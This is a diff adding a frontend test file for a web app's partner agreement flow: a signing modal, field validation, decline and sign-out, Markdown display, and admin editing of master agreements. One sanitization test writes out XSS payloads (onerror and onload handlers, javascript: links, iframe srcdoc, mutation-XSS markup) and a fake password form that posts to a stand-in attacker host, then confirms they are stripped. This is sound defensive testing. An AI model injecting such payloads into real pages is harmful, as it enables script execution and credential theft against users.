@@ -1,0 +1,247 @@
+// @vitest-environment jsdom
+/** The agreement that stands before an agent who has not signed, the master it comes from, and what no agreement can do. */
+import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
+import { personas } from '@seeds/people/personas'
+import { startWords } from '@core/words/i18n'
+import { session, world } from '@core/session/session'
+import { field, furnish, press, see, type, until, type Browser } from '@support/jsdom/page'
+import { leaveTab, newTab, openAs } from '@support/jsdom/tab'
+
+vi.setConfig({ testTimeout: 30_000 })
+
+let browser: Browser
+beforeAll(async () => {
+  furnish()
+  await startWords()
+})
+beforeEach(async () => {
+  browser = await newTab()
+})
+afterEach(leaveTab)
+async function open(email: string, path = '/') {
+  await openAs(browser, email, path)
+}
+const unsigned = () => open(personas.agentUnsigned.email)
+const modal = () => until(() => document.querySelector<HTMLElement>('.agreement-modal'), 'the agreement')
+const button = (text: string) =>
+  [...document.querySelectorAll('button')].find((one) => one.textContent === text)!
+const box = () =>
+  until(() => document.querySelector<HTMLInputElement>('.agreement-modal input[type=checkbox]'), 'the box')
+const put = (content: string) =>
+  void browser.sim.db.prepare('UPDATE agreements SET content = ? WHERE is_current').run(content)
+
+describe('an agent who has not signed', () => {
+  test('core-4-agent-agreement-01 core-6-roles-06 sees the agreement and nothing else, and asks for nothing else', async () => {
+    await unsigned()
+    await modal()
+    await see('What the partner undertakes')
+    expect([
+      document.querySelector('.side-nav'),
+      document.querySelector('.header'),
+      document.querySelector('.bp6-dialog-close-button'),
+    ]).toEqual([null, null, null])
+    await press('escape', await modal())
+    await press('mod+k', await modal())
+    expect([(await modal()).isConnected, document.querySelector('.palette')]).toEqual([true, null])
+    expect(
+      browser.calls.filter((call) => /\/(leads|notifications|product-update|navigation)/.test(call)),
+    ).toEqual([])
+  })
+  test('core-3.5-agreement-02 core-5-agreement-08 finds company and name filled in, all three marked as required', async () => {
+    await unsigned()
+    const [company, name, designation] = [
+      await field('Company Name'),
+      await field('Name'),
+      await field('Designation'),
+    ]
+    expect([company.value, name.value, designation.value]).toEqual(['Andes Abroad', 'Lucía Fernández', ''])
+    expect([company, name, designation].map((one) => one.getAttribute('aria-required'))).toEqual([
+      'true',
+      'true',
+      'true',
+    ])
+  })
+  test('core-4-agent-agreement-02 core-5-agreement-07 accepts only once the box is ticked, and not without a designation', async () => {
+    await unsigned()
+    await modal()
+    expect(button('Accept').disabled).toBe(true)
+    ;(await box()).click()
+    await until(() => !button('Accept').disabled, 'a way to accept')
+    button('Accept').click()
+    await see('Designation is required')
+    expect(browser.calls.filter((call) => call.includes('sign') && call.startsWith('POST /masters'))).toEqual(
+      [],
+    )
+    ;(await box()).click()
+    await until(() => button('Accept').disabled, 'no way to accept')
+  })
+  test('core-4-agent-agreement-03 core-4-agent-agreement-05 core-8-success-04 signs, and is in without a reload', async () => {
+    await unsigned()
+    await type(await field('Designation'), 'Director')
+    ;(await box()).click()
+    await until(() => !button('Accept').disabled, 'a way to accept')
+    button('Accept').click()
+    await see('Agreement Signed successfully')
+    await until(
+      () => document.querySelector('.home-keys') && !document.querySelector('.agreement-modal'),
+      'home',
+    )
+    expect(world.profile!.hasAgreementSigned).toBe(true)
+    await until(() => browser.calls.some((call) => call.startsWith('GET /leads')), 'the leads asked for')
+  })
+  test('core-8-failure-10 a signing that fails says so, keeps what was typed, and lets one try again', async () => {
+    await unsigned()
+    await type(await field('Designation'), 'Director')
+    ;(await box()).click()
+    await until(() => !button('Accept').disabled, 'a way to accept')
+    browser.meddle.with = (path) =>
+      path.endsWith('/sign')
+        ? new Response('{"errors":[{"message":"The database is on fire"}]}', { status: 500 })
+        : undefined
+    button('Accept').click()
+    await see('Unable to sign agreement! Please try again later.')
+    expect((await field('Designation')).value).toBe('Director')
+    delete browser.meddle.with
+    button('Accept').click()
+    await see('Agreement Signed successfully')
+  })
+  test('core-4-agent-agreement-04 core-7-agreements-03 declines: it is told to the server, and one is signed out', async () => {
+    await unsigned()
+    await modal()
+    button('Decline').click()
+    await until(() => location.pathname === '/signin', 'the door')
+    expect([session.isAuthenticated, session.authToken]).toEqual([false, null])
+    expect(browser.calls.filter((call) => /declined|logout/.test(call))).toEqual([
+      'POST /masters/agreements/declined',
+      'GET /auth/logout',
+    ])
+  })
+  test('goes on when nothing is put before them', async () => {
+    browser.sim.db.prepare('UPDATE agreements SET is_current = 0').run()
+    await unsigned()
+    await until(() => document.querySelector('.home-keys'), 'home')
+    expect(document.querySelector('.agreement-modal')).toBeNull()
+  })
+})
+
+describe('the text of an agreement', () => {
+  test('core-3.5-agreement-04 is Markdown shown as headings, lists and tables', async () => {
+    await unsigned()
+    const paper = await until(() => document.querySelector('.agreement-paper .rich-text'), 'the text')
+    await until(() => paper.querySelector('table'), 'a table')
+    expect([
+      paper.querySelectorAll('h2').length,
+      paper.querySelectorAll('ol li').length,
+      paper.querySelector('strong')!.textContent,
+      paper.querySelector('blockquote') !== null,
+    ]).toEqual([5, 4, 'Meridian', true])
+    expect(document.querySelector('.agreement-paper')!.getAttribute('tabindex')).toBe('0')
+  })
+  test('cannot run, load or pretend anything, whoever wrote it', async () => {
+    put(
+      [
+        'Read <b>this</b> [carefully](https://example.org).',
+        '<img src=x onerror="window.__run = 1">',
+        '<script>window.__run = 2</script>',
+        '<svg onload="window.__run = 3"></svg>',
+        '[click](javascript:window.__run=4)',
+        '<a href="java&#x0a;script:window.__run=5">too</a>',
+        '<iframe srcdoc="<script>parent.__run=6</script>"></iframe>',
+        '<form action="https://thief.example"><input name="password"><button>Accept</button></form>',
+        '<div style="position:fixed;inset:0" id="page" class="toast">over</div>',
+        '<math><mtext><table><mglyph><style><img src=x onerror="window.__run=7">',
+      ].join('\n\n'),
+    )
+    await unsigned()
+    const paper = await until(
+      () => document.querySelector('.agreement-paper .rich-text b')?.closest('.rich-text'),
+      'the text',
+    )
+    expect((globalThis as { __run?: number }).__run).toBeUndefined()
+    expect(
+      paper.querySelectorAll(
+        'script, img, svg, iframe, form, input, button, style, [style], [id], [class], [onerror], [onload]',
+      ),
+    ).toHaveLength(0)
+    expect(
+      [...paper.querySelectorAll('a[href]')].map((link) => [
+        link.getAttribute('href'),
+        link.getAttribute('rel'),
+      ]),
+    ).toEqual([['https://example.org', 'noopener noreferrer']])
+  })
+})
+
+describe('the master', () => {
+  const list = () => open(personas.admin.email, '/master/agreements')
+  const shut = () => until(() => !document.querySelector('.record'), 'the end of the dialog')
+  const one = (title: string) =>
+    browser.sim.db
+      .prepare<[string], { status: string; is_current: number; content: string }>(
+        'SELECT status, is_current, content FROM agreements WHERE title = ?',
+      )
+      .get(title)
+  test('business-8-label-10 core-5-agreement-01 core-5-agreement-02 one is written with c, refused without title and group, and seen as it is written', async () => {
+    await list()
+    await see('3 in the list')
+    await press('c')
+    const title = await field('Title')
+    await press('enter', title)
+    await see('Title is required')
+    await see('Group is required')
+    await type(title, 'Ambassador terms')
+    const group = (await field('Group')) as unknown as HTMLSelectElement
+    group.value = 'user'
+    group.dispatchEvent(new Event('change', { bubbles: true }))
+    const content = await until(
+      () => document.querySelector<HTMLTextAreaElement>('.markdown-field textarea'),
+      'the text',
+    )
+    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(
+      content,
+      '# Be **kind**',
+    )
+    content.dispatchEvent(new Event('input', { bubbles: true }))
+    await until(
+      () => document.querySelector('.markdown-preview h1 strong')?.textContent === 'kind',
+      'the preview',
+    )
+    await press('enter', title)
+    await shut()
+    await see('Agreement created')
+    await see('4 in the list')
+    expect(one('Ambassador terms')).toEqual({ status: 'active', is_current: 0, content: '# Be **kind**' })
+  })
+  test('core-4-agreement-status-01 core-5-agreement-03 core-5-agreement-04 s changes status and current, and asks for both', async () => {
+    await list()
+    await see('3 in the list')
+    await press('s')
+    const [status, current] = [
+      await field('Status'),
+      await field('Current'),
+    ] as unknown as HTMLSelectElement[]
+    expect([status!.value, current!.value]).toEqual(['active', 'false'])
+    const choose = (select: HTMLSelectElement, value: string) => {
+      select.value = value
+      select.dispatchEvent(new Event('change', { bubbles: true }))
+    }
+    choose(status!, '')
+    choose(current!, '')
+    status!.form!.requestSubmit()
+    await see('Status is required')
+    await see('Required')
+    choose(status!, 'active')
+    choose(current!, 'true')
+    status!.form!.requestSubmit()
+    await shut()
+    await see('Agreement updated')
+    expect(one('Staff confidentiality undertaking')).toMatchObject({ status: 'active', is_current: 1 })
+  })
+  test('an agent reads what holds now, and what they signed', async () => {
+    await open(personas.agent.email, '/agents/agreement')
+    await see('Signed by you')
+    await see('Levant Pathways')
+    await see('What the partner undertakes')
+    expect(document.querySelectorAll('.agreement-paper')).toHaveLength(1)
+  })
+})
